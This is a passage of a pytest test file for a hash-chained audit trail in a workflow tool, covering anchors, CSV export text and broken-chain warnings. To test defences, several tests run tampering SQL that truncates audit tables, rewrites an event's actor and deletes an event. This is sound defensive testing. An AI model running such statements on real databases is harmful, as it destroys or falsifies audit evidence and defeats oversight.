        conn.execute(text("INSERT INTO audit_events (seq, occurred_at, recorded_at, actor, event_type, payload, "
                          "prev_hash, hash) VALUES (:seq, :at, :at, 'chen', 'user_added', :payload, :prev, :hash)"),
                     {"seq": head.last_seq + 1, "at": now, "payload": payload, "prev": head.last_hash, "hash": digest})
        conn.execute(text("UPDATE audit_head SET last_seq = :seq, last_hash = :hash"),
                     {"seq": head.last_seq + 1, "hash": digest})
    checked = verify_json(engine.db, anchor_file)
    assert checked["ok"] and checked["anchors"][0]["status"] == "ok" and checked["anchors"][0]["appended_after"] == 1


@pytest.mark.parametrize("table", ["audit_events", "documents", "comments"])
def test_truncate_of_an_append_only_table_is_refused_on_postgresql(postgres_db, table):
    """QA auditor finding 6: the row triggers refuse UPDATE and DELETE, but TRUNCATE fires no row
    trigger and emptied the trail in one statement, even as the tables' owner (migration 0024)."""
    engine = Engine(postgres_db)
    engine.add_group("legal", "法制机构")  # one event, which the TRUNCATE would take away
    with pytest.raises(DatabaseError, match=f"{table} is append-only"):
        with postgres_db.engine.begin() as conn:
            conn.execute(text(f"TRUNCATE {table} CASCADE"))
    with postgres_db.reader() as s:
        assert s.execute(select(func.count()).select_from(AuditEvent)).scalar_one() == 1
        assert verify(s).ok


def _csv_lines(db: Database, *args) -> list[dict]:
    """The CSV export as an auditor reads it: each row by its column's heading."""
    exported = csv.DictReader(io.StringIO(cli(db, "audit", "export", "--format", "csv", *args).stdout.lstrip("\ufeff")))
    return list(exported)


def test_the_csv_says_a_claim_and_a_hand_back_by_the_step_name_as_history_does(engine, people):
    """An auditor's finding: the CSV's 说明 said `认领 Task_Draft` and `交回 Task_Draft` (the diagram's
    element id: a claim's event records only the task), where `reformflow history` says
    `认领 (claimed) 起草`. Both now name the step."""
    cli(engine.db, "deploy", str(FIXTURES / "diagrams" / "mini_approval.bpmn"))
    plan = engine.start("mini_approval", actor="zhang", title="深化财政预算管理制度改革方案")
    [draft] = plan["tasks"]
    engine.unclaim(draft["id"], actor="zhang")
    engine.claim(draft["id"], actor="zhang")
    said = {row["事件类型代码 (event_type)"]: row["说明 (what happened)"] for row in _csv_lines(engine.db)}
    assert said["task_unclaimed"] == "交回 起草"
    assert said["task_claimed"] == "认领 起草"
    history = cli(engine.db, "history", str(plan["id"])).stdout
    assert "交回 (unclaimed) 起草" in history and "认领 (claimed) 起草" in history
    # one plan's export says the same
    assert "认领 起草" in [row["说明 (what happened)"] for row in _csv_lines(engine.db, "--instance", str(plan["id"]))]


def test_an_anchor_is_said_as_an_anchor_not_as_the_start_of_the_trail(engine, people, tmp_path):
    """An auditor's finding: /audit/events and the CSV said an `audit_anchored` event as 「审计记录起点
    postgresql+psycopg://…」 (the start of the trail), while the filter offers it as 记录锚点. An
    anchor is the trail's end as it stood, kept outside the database for `audit verify --anchor`."""
    from engine.trail_text import said
    cli(engine.db, "audit", "anchor", "--output", str(tmp_path / "anchor.json"), "--as", "chen")
    [row] = [r for r in _csv_lines(engine.db) if r["事件类型代码 (event_type)"] == "audit_anchored"]
    database = public_url(engine.db.url)
    assert row["事件 (event)"] == "记录锚点"
    assert row["说明 (what happened)"] == (
        f"记录锚点：本事件的编号和哈希写入锚点文件，留存于数据库之外，供 audit verify --anchor 核对此前的记录未被截断或改写"
        f"（数据库 {database}）")
    event = {"event_type": "audit_anchored", "name": None, "payload": json.loads(row["内容 (payload)"])}
    assert said(event, "en") == (
        "audit trail anchored: this event’s number and hash written to an anchor file to keep outside the database, "
        f"for audit verify --anchor to check that nothing up to it was cut off or rewritten (database {database})")
    assert "起点" not in said(event) and "start" not in said(event, "en")
    events = cli(engine.db, "audit", "events", "--type", "audit_anchored").stdout
    assert "记录锚点 (audit trail anchored)：本事件的编号和哈希写入锚点文件" in events


def test_an_export_of_a_broken_trail_is_written_and_says_so_on_standard_error(engine, people, tmp_path):
    """An operator's finding: `audit export` of a broken chain printed 「已写入 109 个事件」 and nothing
    else. The export is still written (it is evidence) and exits 0, but standard error names the
    first broken event and points at `audit verify`; --json says it under "broken"."""
    cli(engine.db, "deploy", str(FIXTURES / "diagrams" / "mini_approval.bpmn"))
    plan = engine.start("mini_approval", actor="zhang", title="深化财政预算管理制度改革方案")
    intact = cli(engine.db, "audit", "export", "--output", str(tmp_path / "intact.jsonl"))
    assert intact.stderr.splitlines() == [f"已写入 {intact.stderr.split()[1]} 个事件到 {tmp_path / 'intact.jsonl'} "
                                          f"({intact.stderr.split()[1]} events written)"]  # no warning
    with engine.db.reader() as s:
        claimed = s.execute(select(AuditEvent.seq).where(AuditEvent.instance_id == plan["id"])
                            .order_by(AuditEvent.seq)).scalars().first()
    tamper(engine.db, "UPDATE audit_events SET actor = 'mallory' WHERE seq = :seq", seq=claimed)
    result = cli(engine.db, "audit", "export", "--output", str(tmp_path / "trail.jsonl"))  # exit 0
    warning, written = result.stderr.splitlines()
    assert warning == (f"reformflow: 警告：审计记录已损坏，首个问题：事件 {claimed} 的内容与其哈希不符（共 1 处）；导出已照常写入，"
                       f"请作为证据保存，并运行 reformflow audit verify 查明全部问题及处理办法 (warning: the audit trail is "
                       f"broken, first: event {claimed} does not match its hash (1 in all); the export was written all "
                       f"the same: keep it as evidence, and run reformflow audit verify for every problem and what to do)")
    exported = [json.loads(line) for line in (tmp_path / "trail.jsonl").read_text(encoding="utf-8").splitlines()]
    assert written.startswith(f"已写入 {len(exported)} 个事件") and "mallory" in [e["actor"] for e in exported]
    # one plan's export and standard output say it too; --json names the event
    assert f"事件 {claimed} 的内容与其哈希不符" in cli(engine.db, "audit", "export", "--instance", str(plan["id"])).stderr
    summary = json.loads(cli(engine.db, "audit", "export", "--output", str(tmp_path / "again.jsonl"), "--json").stdout)
    assert summary["broken"] == {"seq": claimed, "events": 1,
                                 "message": f"事件 {claimed} 的内容与其哈希不符 (event {claimed} does not match its hash)"}
    # an event removed: the whole export names the number missing first
    tamper(engine.db, "UPDATE audit_events SET actor = 'zhang' WHERE seq = :seq",
           "DELETE FROM audit_events WHERE seq = :gone", seq=claimed, gone=claimed + 1)
    gone = cli(engine.db, "audit", "export", "--format", "csv", "--output", str(tmp_path / "gone.csv")).stderr
    assert f"首个问题：事件 {claimed + 1} 缺失" in gone and f"first: event {claimed + 1} is missing" in gone
